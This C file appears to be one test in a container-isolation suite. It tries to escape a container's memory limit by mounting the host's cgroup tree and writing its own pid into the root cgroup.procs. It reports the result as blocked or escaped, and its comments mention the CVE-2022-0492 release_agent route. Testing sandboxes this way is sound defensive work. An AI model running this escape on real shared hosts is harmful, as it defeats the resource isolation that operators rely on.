/* escape: cgroup-escape
 * blocked-from: 07
 * explain: mount the host's memory cgroup tree and move out of our memory limit
 *
 * The runtime put us in <hierarchy>/boxes/<id> with a memory limit. But
 * the cgroup tree is one per host: container root with CAP_SYS_ADMIN can
 * mount it again (mount -t cgroup -o memory; cgroup2 on a v2 host) and
 * write its own pid into the ROOT cgroup's cgroup.procs. No limit applies
 * there any more. (The same mount also gives release_agent, the heart of
 * CVE-2022-0492; we do not go there.) In a user namespace, mounting a
 * cgroup hierarchy needs CAP_SYS_ADMIN over the host's cgroup namespace:
 * EPERM.
 * We move only ourselves, unmount at once and exit.
 */
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "cgroup_line.h"
#include "escape.h"

/* Our memory cgroup, from /proc/self/cgroup: the "memory" line (v1) or
 * the "0::" line (v2), whichever comes first (a hybrid host lists the v1
 * ones first). Mounts /proc for the look when missing (step 01). */
static int memory_cgroup(char *path, size_t len, int *v2)
{
	char line[512];
	int found = 0, mounted_here = 0;
	FILE *file;

	if (access("/proc/self/cgroup", R_OK) != 0 &&
	    mount("proc", "/proc", "proc", MS_NOSUID | MS_NOEXEC | MS_NODEV, NULL) == 0)
		mounted_here = 1;
	file = fopen("/proc/self/cgroup", "r");
	while (file && !found && fgets(line, sizeof(line), file))
		found = memory_cgroup_line(line, path, len, v2);
	if (file)
		fclose(file);
	if (mounted_here)
		umount2("/proc", MNT_DETACH);
	return found;
}

int main(void)
{
	char dir[] = "/tmp/cgroup-XXXXXX", procs[64], before[256], after[256] = "?", pid[32];
	int v2, fd;
	ssize_t wrote;

	if (!memory_cgroup(before, sizeof(before), &v2))
		cannot_test("no memory cgroup in /proc/self/cgroup");
	if (!mkdtemp(dir))
		cannot_test("mkdtemp(%s): %s", dir, strerror(errno));
	if (mount("cgroup", dir, v2 ? "cgroup2" : "cgroup", 0, v2 ? NULL : "memory") < 0) {
		int error = errno;

		rmdir(dir);
		blocked("mount -t %s %s: %s", v2 ? "cgroup2" : "cgroup -o memory", dir,
			strerror(error));
	}
	snprintf(procs, sizeof(procs), "%s/cgroup.procs", dir);
	snprintf(pid, sizeof(pid), "%d", (int)getpid());
	fd = open(procs, O_WRONLY);
	wrote = fd < 0 ? -1 : write(fd, pid, strlen(pid));
	if (wrote < 0) {
		int error = errno;

		if (fd >= 0)
			close(fd);
		umount2(dir, MNT_DETACH);
		rmdir(dir);
		blocked("mounted the host's cgroup tree, but %s %s: %s", fd < 0 ? "open" : "write",
			procs, strerror(error));
	}
	close(fd);
	umount2(dir, MNT_DETACH);
	rmdir(dir);
	memory_cgroup(after, sizeof(after), &v2);
	if (strcmp(after, "/") != 0)
		blocked("wrote our pid to the root cgroup, yet we are in %s", after);
	escaped("moved ourselves from memory cgroup %s to the host's root cgroup (now: %s): "
		"no memory limit applies",
		before, after);
}
